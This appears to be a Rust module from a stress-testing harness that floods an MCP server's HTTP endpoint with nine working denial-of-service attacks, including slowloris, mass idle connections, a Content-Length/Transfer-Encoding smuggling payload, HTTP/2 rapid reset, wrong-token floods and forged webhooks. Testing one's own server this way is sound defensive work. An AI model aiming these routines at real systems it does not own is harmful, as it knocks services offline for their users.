//! The attacks, each for a fixed time and at a bounded rate.

use std::time::{Duration, Instant};

use anyhow::{Result, bail};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
    time::sleep,
};

pub const FORGED_WEBHOOKS: &str = "forged webhooks";
pub const FORGED_PER_S: u64 = 5_000;
pub const NAMES: [&str; 9] = [
    "slowloris x 1,000",
    "half-open bodies x 1,000",
    "idle connections x 10,000",
    "bodies of 5 MB",
    "both lengths at once",
    "pipelining",
    "HTTP/2 rapid reset",
    "wrong tokens",
    FORGED_WEBHOOKS,
];

const HEAD: &str = "POST /mcp HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n\
    Accept: application/json, text/event-stream\r\n";

#[derive(Clone)]
struct Target {
    address: String,
    until: Instant,
}

impl Target {
    fn goes_on(&self) -> bool {
        Instant::now() < self.until
    }

    async fn connect(&self) -> Option<TcpStream> {
        match TcpStream::connect(&self.address).await {
            Ok(stream) => Some(stream),
            Err(_) => {
                sleep(Duration::from_millis(50)).await;
                None
            }
        }
    }
}

pub async fn run(name: &str, url: &str, during: Duration) -> Result<()> {
    let address = url.trim_start_matches("http://").trim_end_matches("/mcp").to_owned();
    let target = Target { address, until: Instant::now() + during };
    let mut attackers = JoinSet::new();
    match name {
        "slowloris x 1,000" => (0..1_000).for_each(|_| drop(attackers.spawn(slow_head(target.clone())))),
        "half-open bodies x 1,000" => (0..1_000).for_each(|_| drop(attackers.spawn(half_body(target.clone())))),
        "idle connections x 10,000" => (0..10_000).for_each(|_| drop(attackers.spawn(idle(target.clone())))),
        "bodies of 5 MB" => (0..4).for_each(|_| drop(attackers.spawn(long_body(target.clone())))),
        "both lengths at once" => {
            let body = "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /livez HTTP/1.1\r\n\r\n";
            let text = format!("{HEAD}{body}");
            (0..8).for_each(|_| drop(attackers.spawn(once(target.clone(), text.clone(), Duration::from_millis(10)))));
        }
        "pipelining" => {
            let one = format!("{HEAD}Content-Length: 2\r\n\r\n{{}}");
            let text = one.repeat(100);
            (0..8).for_each(|_| drop(attackers.spawn(once(target.clone(), text.clone(), Duration::from_millis(100)))));
        }
        "HTTP/2 rapid reset" => (0..4).for_each(|_| drop(attackers.spawn(rapid_reset(target.clone())))),
        "wrong tokens" => {
            let text = format!("{HEAD}Authorization: Bearer fdt_wrong\r\nContent-Length: 2\r\n\r\n{{}}");
            (0..8).for_each(|_| drop(attackers.spawn(paced(target.clone(), text.clone(), 1_000 / 8))));
        }
        FORGED_WEBHOOKS => {
            let body =
                r#"{"event":"conversation.ended","timestamp":"2026-03-30T14:22:00Z","data":{"conversationId":"x"}}"#;
            let text = format!(
                "POST /webhooks/chatbot HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n\
                 X-Webhook-Signature: {}\r\nContent-Length: {}\r\n\r\n{body}",
                "0".repeat(64),
                body.len()
            );
            (0..16).for_each(|_| drop(attackers.spawn(paced(target.clone(), text.clone(), FORGED_PER_S / 16))));
        }
        _ => bail!("there is no attack {name}"),
    }
    while let Some(attacker) = attackers.join_next().await {
        attacker?;
    }
    Ok(())
}

/// Sends a head that never ends, one octet a second.
async fn slow_head(target: Target) {
    while target.goes_on() {
        let Some(mut stream) = target.connect().await else { continue };
        for octet in HEAD.bytes() {
            if !target.goes_on() || stream.write_all(&[octet]).await.is_err() {
                break;
            }
            sleep(Duration::from_secs(1)).await;
        }
    }
}

async fn half_body(target: Target) {
    while target.goes_on() {
        let Some(mut stream) = target.connect().await else { continue };
        if stream.write_all(format!("{HEAD}Content-Length: 1000\r\n\r\n{{").as_bytes()).await.is_ok() {
            hold(&target, &mut stream).await;
        }
    }
}

/// Sends nothing, and reconnects when it is closed.
async fn idle(target: Target) {
    while target.goes_on() {
        let Some(mut stream) = target.connect().await else { continue };
        hold(&target, &mut stream).await;
        sleep(Duration::from_millis(500)).await;
    }
}

/// Waits until the server closes, or the attack is over.
async fn hold(target: &Target, stream: &mut TcpStream) {
    let mut buffer = [0; 1024];
    let rest = target.until.saturating_duration_since(Instant::now());
    let _ =
        tokio::time::timeout(rest, async { while stream.read(&mut buffer).await.is_ok_and(|read| read > 0) {} }).await;
}

async fn long_body(target: Target) {
    const LENGTH: usize = 5 * 1024 * 1024;
    let part = vec![b' '; 64 * 1024];
    while target.goes_on() {
        let Some(mut stream) = target.connect().await else { continue };
        let _ = stream.write_all(format!("{HEAD}Content-Length: {LENGTH}\r\n\r\n").as_bytes()).await;
        for _ in 0..LENGTH / part.len() {
            if stream.write_all(&part).await.is_err() {
                break;
            }
        }
        let _ = tokio::time::timeout(Duration::from_secs(1), stream.read(&mut [0; 256])).await;
        sleep(Duration::from_millis(50)).await;
    }
}

/// Sends a text repeatedly, each time on a new connection.
async fn once(target: Target, text: String, pause: Duration) {
    while target.goes_on() {
        let Some(mut stream) = target.connect().await else { continue };
        let _ = stream.write_all(text.as_bytes()).await;
        let _ = tokio::time::timeout(Duration::from_millis(200), stream.read(&mut [0; 64 * 1024])).await;
        sleep(pause).await;
    }
}

/// Sends a text `per_s` times a second on one connection.
async fn paced(target: Target, text: String, per_s: u64) {
    const ROUND: Duration = Duration::from_millis(20);
    let mut ticks = tokio::time::interval(ROUND);
    let each = (per_s / 50).max(1);
    while target.goes_on() {
        let Some(mut stream) = target.connect().await else { continue };
        let _ = stream.set_nodelay(true);
        let mut buffer = vec![0; 64 * 1024];
        'connection: while target.goes_on() {
            ticks.tick().await;
            for _ in 0..each {
                let sent = stream.write_all(text.as_bytes()).await;
                let answered = tokio::time::timeout(Duration::from_secs(5), stream.read(&mut buffer)).await;
                if sent.is_err() || !matches!(answered, Ok(Ok(1..))) {
                    break 'connection;
                }
            }
        }
    }
}

async fn rapid_reset(target: Target) {
    while target.goes_on() {
        let Some(stream) = target.connect().await else { continue };
        let Ok((send, connection)) = h2::client::handshake(stream).await else { continue };
        let driver = tokio::spawn(async move { drop(connection.await) });
        let mut opened = 0;
        while target.goes_on() {
            let Ok(mut ready) = send.clone().ready().await else { break };
            let request = http::Request::post("http://localhost/mcp").body(()).unwrap_or_default();
            let Ok((answer, mut body)) = ready.send_request(request, false) else { break };
            body.send_reset(h2::Reason::CANCEL);
            drop(answer);
            opened += 1;
            if opened % 50 == 0 {
                sleep(Duration::from_millis(5)).await;
            }
        }
        driver.abort();
    }
}
